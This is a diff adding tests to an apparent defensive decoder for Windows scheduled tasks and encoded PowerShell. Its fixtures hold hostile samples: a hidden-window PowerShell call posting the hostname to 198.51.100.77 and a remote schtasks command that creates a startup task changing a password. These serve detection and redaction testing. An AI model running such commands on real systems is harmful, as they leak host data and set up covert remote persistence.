@@ -156,6 +156,92 @@ describe("a task command line", () => {
   });
 });
 
+describe("--json has what the lines have", () => {
+  const SCRIPT = Buffer.from(
+    "schtasks /change /tn x /rp Hunter2!",
+    "utf16le",
+  ).toString("base64");
+
+  it("each layer of each action, and the reasons to look closer", async () => {
+    const { stdout } = await tripline(["decode", "--json", BASE64]);
+    const { task } = JSON.parse(stdout) as { task: Record<string, unknown> };
+    expect(task["actions"]).toMatchObject([
+      {
+        layers: [
+          { kind: "cmd", text: `start /min ${POWERSHELL}` },
+          { kind: "start", text: POWERSHELL },
+          {
+            kind: "powershell-encoded",
+            text: "irm http://198.51.100.77/checkin -Method Post -Body (hostname) | Out-Null",
+          },
+        ],
+      },
+    ]);
+    expect(task["hints"]).toMatchObject([
+      { hint: "encoded-powershell" },
+      { hint: "hidden-window" },
+      { hint: "network-download" },
+    ]);
+  });
+
+  it("why a layer stays closed", async () => {
+    const { stdout } = await tripline([
+      "decode",
+      "--json",
+      "<Task><Actions><Exec><Command>powershell</Command><Arguments>-enc %x%</Arguments></Exec><ShowMessage/></Actions></Task>",
+    ]);
+    expect(JSON.parse(stdout)).toMatchObject({
+      task: {
+        actions: [
+          { layers: [], problem: "the encoded command is not base64" },
+          { type: "showMessage", layers: [] },
+        ],
+      },
+    });
+  });
+
+  it("a command line in one sentence", async () => {
+    const { stdout } = await tripline([
+      "decode",
+      "--json",
+      `schtasks /create /s fs9 /tn N /tr "powershell -e ${SCRIPT}" /sc onstart`,
+    ]);
+    expect(JSON.parse(stdout)).toMatchObject({
+      command: {
+        sentence:
+          "schtasks creates task N on fs9 (remote): powershell -e ****, at system start",
+        action: { command: "powershell", arguments: "-e ****" },
+      },
+      task: {
+        actions: [
+          {
+            layers: [
+              {
+                kind: "powershell-encoded",
+                text: "schtasks /change /tn x /rp ****",
+              },
+            ],
+          },
+        ],
+      },
+    });
+    expect(stdout).not.toContain("Hunter2");
+    expect(stdout).not.toContain(SCRIPT);
+  });
+
+  it("control characters are spelt out", async () => {
+    const { stdout } = await tripline([
+      "decode",
+      "--json",
+      "<Task><Actions><Exec><Command>a\u009bb\u202ec</Command></Exec></Actions></Task>",
+    ]);
+    expect(stdout).not.toMatch(/[\u007f-\u009f\u202e]/);
+    expect(JSON.parse(stdout)).toMatchObject({
+      task: { actions: [{ command: "a\u009bb\u202ec" }] },
+    });
+  });
+});
+
 describe("what cannot be decoded", () => {
   it("is said, with 0: nobody made a mistake", async () => {
     expect(await tripline(["decode", "xyzzy"])).toEqual({
